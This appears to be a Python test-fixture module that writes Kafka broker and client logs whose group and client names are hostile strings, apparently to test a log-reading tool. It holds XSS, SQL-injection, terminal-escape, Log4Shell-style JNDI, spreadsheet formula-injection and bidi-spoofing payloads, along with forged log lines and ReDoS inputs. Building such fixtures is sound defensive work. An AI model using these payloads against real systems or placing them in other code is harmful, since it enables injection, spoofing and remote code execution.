"""Logs of a real broker in which some clients and groups have names that attack whoever reads them."""

import base64
import gzip
import json
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path

RECORDING = Path(__file__).parents[1] / "data" / "recordings" / "kafka-3.9.1"
ZONE = "America/New_York"
GROUP = "loyalty-calc"  # joins, leaves, a kill, a cooperative follow-up: its lines are repeated under other names
SPARED = ("booking-intake", "loyalty-calc", "payments-core", "rate-loader", "room-optimizer")
"""The broker's own groups, beside which the others misbehave."""

LONG = "long-" + "x" * 100_000
NAMES = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "sql": "x' OR '1'='1'; DROP TABLE rebalances; --/*",
    "ansi": "\x1b[31mred\x1b[0m\x1b[2J",
    "osc": "\x1b]0;title\x07\x1b]8;;http://evil\x1b\\click",
    "c1": "\x9b31mc1\x9d0;title\x9c",
    "lines": "one\r\ntwo\nthree\u2028four\u0085five",
    "forged": "x\n[2026-11-21 01:26:30,000] INFO [GroupCoordinator 2]: Group payments-core transitioned to Dead in generation 1 "
    "(kafka.coordinator.group.GroupCoordinator)",
    "nul": "a\x00b",
    "bidi": "\u202egnp.exe\u2066\u200f",
    "unseen": "a\u200bb\ufeffc\u2060d\u3164e\u2800f\u00adg",
    "marks": "z" + "\u0336\u0310\u0489" * 20,
    "tabs": "\tcell\tcell",
    "braces": "{} %s %n {0.__class__} ${jndi:ldap://evil/x} $1 \\1 \x7f",
    "markup": "[red]red[/red][link=http://evil]x[/link] :boom: **b** | `c`",
    "formula": "=cmd|'/C calc'!A0;@SUM(1)\u2028,\"+1",
    "surrogate": "a\ud800b\udfffc",
    "grammar": "a in group b in state Stable, (reason: x) (client reason: y), groupId=z] member c",
}
"""By what they try."""

_UNSEEN = frozenset("\u034f\u115f\u1160\u2800\u3164\uffa0\ufe0f")
_LETTERS = frozenset("LNPSM")  # first letters of the categories of what is there to be seen


def harm_in(text: str) -> list[str]:
    """Characters that a terminal acts on, or does not show, or heaps on another; our own line ends aside."""
    marks = 0
    found = []
    for c in text:
        kind = unicodedata.category(c)
        marks = marks + 1 if kind[0] == "M" else 0
        if (kind[0] not in _LETTERS and c not in "\n ") or c in _UNSEEN or marks > 2:
            found.append(f"U+{ord(c):04X}")
    return found


def name(kind: str) -> str:
    """The name in place of the group's, also at the beginning of its clients' and members' ids."""
    return f"{NAMES[kind]}~{kind}"


def as_logged(text: str) -> bytes:
    """A name as a broker's server.log has it: as it is. Java writes a lone surrogate as a question mark."""
    return text.encode("utf-8", "replace")


def as_json(text: str) -> bytes:
    """A name inside of a text of JSON."""
    return json.dumps(text)[1:-1].encode()


def lines_of(log: str) -> list[bytes]:
    return gzip.decompress((RECORDING / log).read_bytes()).splitlines()


def requests(kinds: list[str]) -> Iterator[bytes]:
    """The request log of a broker; behind each line of the group the same one of the others."""
    for line in lines_of("broker-2/kafka-request.log.gz"):
        yield line
        if GROUP.encode() in line:
            for kind in kinds:
                said = b'"reason":"' + as_json(NAMES[kind]) + b'"'
                renamed = re.sub(rb'"reason":"[^"]+"', lambda _, said=said: said, line).replace(GROUP.encode(), as_json(name(kind)))
                yield renamed.replace(b"-127.0.0.1:", b"-" + as_json(f"h~{kind}\u202e<b>") + b":")
        if GROUP.encode() in line and any(api in line for api in (b'"JOIN_GROUP"', b'"SYNC_GROUP"', b'"LEAVE_GROUP"')):
            yield line.replace(f'"{GROUP}"'.encode(), b'"group~long"').replace(GROUP.encode(), LONG.encode())


def coordinator(kinds: list[str]) -> Iterator[bytes]:
    """The server.log beside it. A name with a line end in it makes two lines, as it does in Kafka."""
    for line in lines_of("broker-2/server.log.gz"):
        yield line
        if GROUP.encode() in line:
            for kind in kinds:
                yield line.replace(GROUP.encode(), as_logged(name(kind)))
            yield line.replace(f"group {GROUP} ".encode(), b"group group~long ").replace(GROUP.encode(), LONG.encode())
            yield line.replace(GROUP.encode(), b"\xff\xfe\xc3(\x80~bytes")


def slow() -> list[bytes]:
    """Lines on which a regular expression goes back and forth: words of Kafka's sentences, over and over."""
    words = (
        "Failed to persist metadata for group  static member  with group instance id ",
        "Static member  of group  with unknown member id  rejoins, assigning new member id  of group ",
        "[GroupId ] Static member  with instance id  is fenced by existing member ",
        "Member  in group  has failed, removing it ",
    )
    start, end = "[2026-11-21 01:26:31,000] INFO [GroupCoordinator 2]: ", " (kafka.coordinator.group.GroupCoordinator)"
    lists = "Setting empty assignments for members " + ", a" * 60_000 + " of g for generation 1"
    return [f"{start}{text}{end}".encode() for text in (*(word + word.partition(" ")[2] * (200_000 // len(word)) for word in words), lists)]


def slow_clients() -> list[bytes]:
    """The same in logs of clients."""
    start = "[2026-11-21 01:26:31,000] INFO "
    java = "[Consumer groupId=" * 10_000
    texts = (
        java,
        java + "Request joining group due to: x",
        "[Consumer clientId=, groupId=] " + ", groupId=" * 6_000 + "Request joining group due to: x",
        "%7|1795242391.000|JOINGROUP|" + "| [thrd:]: Group " * 10_000,
        "Successfully joined group " * 4_000,
        "joined; group: , member_id: " * 4_000,
        "Crash: ; groupId: " * 6_000,
        "MAXPOLL [#consumer-1] " * 6_000 + "[thrd:",
        "app | " * 20_000,
        "[a] INFO: b: " * 10_000,
        "msg=" * 20_000,
    )
    return [(text if text.startswith("%") else start + text).encode() for text in texts]


def write_logs(folder: Path, kinds: list[str]) -> Path:
    """The logs of one broker as a folder of input; with no kinds, those of its own groups alone."""
    broker = folder / "c" / "broker-2"
    broker.mkdir(parents=True)
    others = bool(kinds)
    for file, found in (("kafka-request.log", requests(kinds)), ("server.log", coordinator(kinds))):
        own = found if others else iter(lines_of(f"broker-2/{file}.gz"))
        (broker / file).write_bytes(b"".join(line + b"\n" for line in own))
    if others:
        with (broker / "server.log").open("ab") as log:
            log.write(b"".join(line + b"\n" for line in slow()))
        (folder / "c" / "clients" / "slow").mkdir(parents=True)
        (folder / "c" / "clients" / "slow" / "app.log").write_bytes(b"".join(line + b"\n" for line in slow_clients()))
        _write_others(folder / "c", kinds)
    return folder


def _write_others(cluster: Path, kinds: list[str]) -> None:
    """Logs of clients, records and polls, in folders and files with such names."""
    for kind in kinds:
        safe = NAMES[kind].replace("/", "_").replace("\x00", "_")[:60]
        folder = bytes(cluster / "clients") + b"/" + as_logged(f"{safe}~{kind}") + b"\xff"
        path = Path(folder.decode("utf-8", "surrogateescape"))
        path.mkdir(parents=True)
        lines = [line.replace(GROUP.encode(), as_logged(name(kind))) for line in lines_of(f"clients/{GROUP}-1.log.gz")]
        (path / f"a\n{kind}\x1b[31m.log").write_bytes(b"".join(line + b"\n" for line in lines))
    records = cluster / "offsets"
    records.mkdir()
    polls = cluster / "poll"
    polls.mkdir()
    at = 1_795_242_420_000  # 2026-11-21 01:27 in New York
    dumped = [{"format": "rebalance-offsets-1", "from": "x", "began": "y"}]
    dumped += [_record(at + number, number, name(kind)) for number, kind in enumerate(kinds) if kind != "surrogate"]
    polled = [{"format": "rebalance-poll-1", "from": "x", "began": "y"}]
    polled += [_described(at + number, name(kind)) for number, kind in enumerate(kinds)]
    polled.append({"timestamp": at + 100, "polled": len(kinds), "took_ms": 1})
    (records / "all.jsonl").write_text("".join(json.dumps(line, separators=(",", ":")) + "\n" for line in dumped), encoding="ascii")
    (polls / "poll.jsonl").write_text("".join(json.dumps(line, separators=(",", ":")) + "\n" for line in polled), encoding="ascii")


def _described(at: int, text: str) -> dict[str, object]:
    member = {"member_id": f"{text}-1", "instance_id": text, "client_id": text, "host": f"/{text}", "partitions": [f"{text}-0"]}
    node = {"id": 2, "address": text}
    known = {"group": f"polled {text}", "type": "classic", "state": "Stable", "assignor": text, "coordinator": node}
    return {"timestamp": at, **known, "members": [member]}


def _record(at: int, offset: int, text: str) -> dict[str, object]:
    """A record of __consumer_offsets: a group of one member whose every name is `text`."""

    def string(value: str) -> bytes:
        data = value.encode()
        return len(data).to_bytes(2, "big") + data

    def data(value: bytes) -> bytes:
        return len(value).to_bytes(4, "big") + value

    key = (2).to_bytes(2, "big") + string(f"stored {text}")
    subscription = data(bytes.fromhex("0000 0000 0001") + string(text) + bytes.fromhex("ffffffff"))
    assignment = data(bytes.fromhex("0000 0000 0001") + string(text) + bytes.fromhex("00000001 00000000 ffffffff"))
    timeouts = (10_000).to_bytes(4, "big") * 2
    member = string(f"{text}-1") + string(text) + string(text) + string(f"/{text}") + timeouts + subscription + assignment
    value = bytes.fromhex("0003") + string("consumer") + (7).to_bytes(4, "big") + string(text) + string(f"{text}-1")
    value += at.to_bytes(8, "big") + (1).to_bytes(4, "big") + member
    places = {"timestamp": at, "partition": offset % 50, "offset": offset}
    return {**places, "key": base64.b64encode(key).decode(), "value": base64.b64encode(value).decode()}
